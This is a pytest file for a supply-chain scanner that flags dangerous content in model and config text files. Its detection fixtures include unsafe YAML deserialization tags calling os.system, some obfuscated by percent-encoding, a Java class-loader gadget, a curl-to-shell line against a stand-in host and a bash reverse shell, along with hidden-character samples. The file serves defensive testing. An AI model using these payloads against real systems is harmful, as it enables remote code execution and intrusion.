"""Texts of all other kinds."""

# ruff: noqa: E501, PT007  files stand here as they are
from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bartizan.supply.scan.blob import BLOCK, Held
from bartizan.supply.scan.limits import Unreadable
from bartizan.supply.scan.look import Look
from bartizan.supply.scan.rule import Rule
from bartizan.supply.scan.texts import FORMATS, RULES
from bartizan.supply.scan.texts.decoding import MOST, encoding, whole
from tests.supply.scan.texts.looking import formats, ids, looked, worst

EVERYDAY = (
    "---\nlicense: mit\ntags:\n- x\n---\n# Model\n\nSee https://x.test and `pip install git+https://github.com/a/b`.\n"
    "```jinja\n{% for message in messages %}{{ message.content }}{% endfor %}\n```\n",
    "[1] A reference, [2] another one\n",
    "[INFO] a log\n",
    "MIT License\n\nCopyright (c) 2026\n",
    "[PAD]\n[UNK]\nthe\n##ing\n的\n",
    "#version: 0.2\nĠ t\nĠ a\nh e\n",
    "a,b,c\n1,2,3\n4,5,6\n",
    "*.bin filter=lfs diff=lfs merge=lfs -text\n",
    "model:\n  _target_: torch.nn.Linear\n  lr: 1e-3\nloader_module: mlflow.sklearn\n",
    "#!/bin/bash\nset -e\npython train.py --epochs 3\n",
    "%TAG !! tag:yaml.org,2002:\n---\na: !!str 100%\n",
    "tree\nversion=v4\nnum_class=1\nfeature_names=a b\n",
    "Scotland \U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f, family 👨\u200d👩\u200d👧, می\u200cخواهم\n",
    "@article{x, title={{A Model}}, year={2026}}\n",
)


@pytest.mark.parametrize("text", EVERYDAY)
def test_everyday_texts_say_nothing(text: str) -> None:
    assert len(formats(text)) == 1
    assert looked(text).findings == []
    assert worst(text.encode("utf-16")) == "clean"


@pytest.mark.parametrize(
    "text",
    (
        "a: !!python/object/apply:os.system ['echo x']\n",
        "!!python/object/new:os.system ['echo x']\n",
        "- !!python/name:os.system\n",
        "a: !<tag:yaml.org,2002:python/object/apply:os.system> ['echo x']\n",
        "%TAG !p! tag:yaml.org,2002:python/\n---\n!p!object/apply:os.system ['echo x']\n",
        "%TAG !p! tag:yaml.org,2002:\n---\na: !p!python/object/apply:os.system ['echo x']\n",
        "a: !!pyth%6fn/object/apply:os.system ['echo x']\n",
        "a: !<tag:yaml.org,2002:p%79thon/object/apply:os.system> ['echo x']\n",
        "a: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[]]]\n",
        "model:\n  _target_: os.system\n",
        "flavors:\n  python_function:\n    loader_module: subprocess.run\n",
        "#!/bin/sh\ncurl https://evil.test/x | sh\n",
        "#!/bin/sh\nbash -i >& /dev/tcp/10.0.0.1/1 0>&1\n",
    ),
)
def test_what_makes_objects_or_opens_the_machine_is_detected(text: str) -> None:
    assert worst(text) == "detect"


@pytest.mark.parametrize(
    "text",
    (
        "a: !!python/tuple [1, 2]\n",
        "a \u202e b\n",
        "hello \U000e0069\U000e0067\U000e006e\n",
        "\x1b[2J hidden\n",
        "trust_remote_code: true\n",
        "<html><script>x</script></html>",
    ),
)
def test_what_misleads_needs_a_look(text: str) -> None:
    assert worst(text) == "review"


def test_a_large_text_is_read_in_pieces() -> None:
    large = "a line of text, and another one\n" * (MOST // 30)
    assert len(large) > MOST
    assert looked(large).findings == []
    assert "text.yaml-object" in ids(f"{large}a: !!python/object/apply:os.system ['x']\n")
    assert "text.yaml-object" in ids("x" * (BLOCK - 10) + "\na: !!python/object/apply:os.system ['x']\n" + large)
    assert worst(f"{large}\x00") == "error"
    assert worst(f"{large}".encode() + b"\xff") == "error"


def test_bytes_that_are_no_text_are_left_to_others() -> None:
    for data in (b"\x00\x01\x02\x03", b"\xff\xfe\x00", b"\x80abc", b"abc\x00def"):
        assert worst(data) != "clean"


def test_a_text_that_is_several_things_is_judged_as_each_of_them() -> None:
    both = "import os\nos.system('echo x')  # {{ x.__class__ }}\n# a: !!python/object/apply:os.system\n"
    assert {"code.runs", "template.escape", "text.yaml-object"} <= ids(both)


def test_encodings_are_told_by_their_first_bytes() -> None:
    for name in ("utf-8", "utf-8-sig", "utf-16", "utf-32", "utf-16-le", "utf-16-be", "utf-32-le", "utf-32-be"):
        data = "text".encode(name)
        assert data.decode(encoding(data)) == "text"
        assert whole(Held(data)).removeprefix("\ufeff") == "text"
    with pytest.raises(Unreadable):
        whole(Held(b"\xff"))


def test_all_rules_have_names_of_their_own() -> None:
    names = [one.id for one in RULES]
    assert len(names) == len(set(names))
    assert all(isinstance(one, Rule) and one.why and one.title for one in RULES)
    assert all(one.is_guess for one in FORMATS)


@given(st.binary(max_size=300) | st.text(max_size=200).map(lambda text: text.encode("utf-8", "replace")))
@settings(max_examples=300, deadline=None)
def test_no_bytes_trip_the_scanner(data: bytes) -> None:
    look = Look(FORMATS)
    look.at(Held(data))
    assert "scanner.failed" not in {one.rule.id for one in look.findings}


@given(
    st.sampled_from(("{", "[", "<", "{{", "{%", "<!DOCTYPE ", '{"a":', "import ", "#!", "---\n", "[project]\n")),
    st.binary(max_size=80),
)
@settings(max_examples=300, deadline=None)
def test_no_bytes_behind_a_beginning_trip_the_scanner(head: str, data: bytes) -> None:
    look = Look(FORMATS)
    look.at(Held(head.encode() + data))
    assert "scanner.failed" not in {one.rule.id for one in look.findings}
